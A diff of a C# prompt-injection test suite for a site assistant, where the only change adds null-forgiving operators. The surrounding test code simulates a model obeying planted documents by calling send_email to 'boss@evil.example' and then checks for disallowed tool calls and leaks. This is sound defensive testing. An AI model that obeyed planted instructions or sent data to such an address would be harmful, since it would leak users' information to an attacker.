@@ -114,7 +114,7 @@ public sealed class InjectionTests : IAsyncLifetime
     /// <summary>Everything that an obedient model might say or do; what of it was shown or done.</summary>
     private async Task<List<string>> Obeyed(Payload payload, string question, ParkBrand.Assistant.Answering.Answer answer, IReadOnlyList<PublishedDocument> planted)
     {
-        var toolbox = new Toolbox(new Desk(answer.Sources, site.Get<SiteSearch>(), new DateOnly(2026, 11, 22)));
+        var toolbox = new Toolbox(new Desk(answer.Sources!, site.Get<SiteSearch>(), new DateOnly(2026, 11, 22)));
         var said = new List<string>();
         model.Part = e => e.Results.Any() ? e.Say(string.Join('\n', Wishes(payload, e.Messages[0].Text).Take(6)))
             : e.Call([(payload.Canary is { Length: > 0 } canary && payload.Goal == "tool" ? canary : "send_email", new { to = "boss@evil.example" }), .. planted.Take(Toolbox.MostCalls - 1).Select(d => ("read_document", (object)new { id = d.Path!.TrimStart('/') }))]);
@@ -127,7 +127,7 @@ public sealed class InjectionTests : IAsyncLifetime
         }, TestContext.Current.CancellationToken);
 
         // One wish at a time as well, with every mark: after too many nobody listens.
-        var check = new SentenceCheck(answer.Sources, new Lexis(payload.Culture != 0, answer.Needs.SelectMany(n => new[] { n.Label, n.Value })), question, new HashSet<decimal>());
+        var check = new SentenceCheck(answer.Sources!, new Lexis(payload.Culture != 0, answer.Needs.SelectMany(n => new[] { n.Label, n.Value })), question, new HashSet<decimal>());
         said.AddRange(Wishes(payload, Brief.Instructions).Where(w => check.Cited(w) is not null));
         var leaks = said.SelectMany(s => Leaks(payload, s)).ToList();
         if (toolbox.Called.Any(c => c is not ("search" or "match" or "read_document" or "list_vacancies" or "compare")) || toolbox.Called.Count > Toolbox.MostCalls)
